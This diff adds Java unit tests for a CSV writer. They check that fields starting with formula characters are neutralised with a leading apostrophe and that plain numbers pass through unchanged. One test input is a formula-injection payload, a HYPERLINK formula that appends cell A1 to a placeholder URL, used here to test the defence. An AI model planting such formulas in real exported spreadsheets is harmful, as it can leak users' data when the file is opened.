@@ -26,6 +26,32 @@ class CsvWriterTest {
     }
 
     @Test
+    void aFieldASpreadsheetWouldTakeForAFormulaGetsAQuoteInFront() {
+        assertThat(CsvWriter.field("=HYPERLINK(\"http://x\"&A1,\"click me\")"))
+                .isEqualTo("\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click me\"\")\"");
+        assertThat(CsvWriter.field("+1+1")).isEqualTo("'+1+1");
+        assertThat(CsvWriter.field("-2+3")).isEqualTo("'-2+3");
+        assertThat(CsvWriter.field("@SUM(A1)")).isEqualTo("'@SUM(A1)");
+        assertThat(CsvWriter.field("\tx")).isEqualTo("'\tx");
+        assertThat(CsvWriter.field("\rx")).isEqualTo("\"'\rx\"");
+        assertThat(CsvWriter.field("＝1+1")).isEqualTo("'＝1+1");
+        assertThat(CsvWriter.field("-")).isEqualTo("'-");
+        assertThat(CsvWriter.field("a=1")).isEqualTo("a=1");
+        assertThat(CsvWriter.field(" =1")).isEqualTo(" =1");
+        assertThat(CsvReader.parse(CsvWriter.line(List.of("=1+1", "x")))).containsExactly(List.of("'=1+1", "x"));
+    }
+
+    @Test
+    void aPlainNumberStaysANumber() {
+        for (String n : List.of("-0.25", "-3", "0", "42", "-1.5E-4", "2e10", "-22999000")) {
+            assertThat(CsvWriter.field(n)).as(n).isEqualTo(n);
+        }
+        for (String notANumber : List.of("-1-1", "-.5", "-1.", "+3", "-1e", "--1", "-1,5")) {
+            assertThat(CsvWriter.neutralised(notANumber)).as(notANumber).isEqualTo("'" + notANumber);
+        }
+    }
+
+    @Test
     void writesTheLineEndItIsGiven() throws IOException {
         StringWriter out = new StringWriter();
         new CsvWriter(out, "\n").row("a", "b").row(List.of("c"));
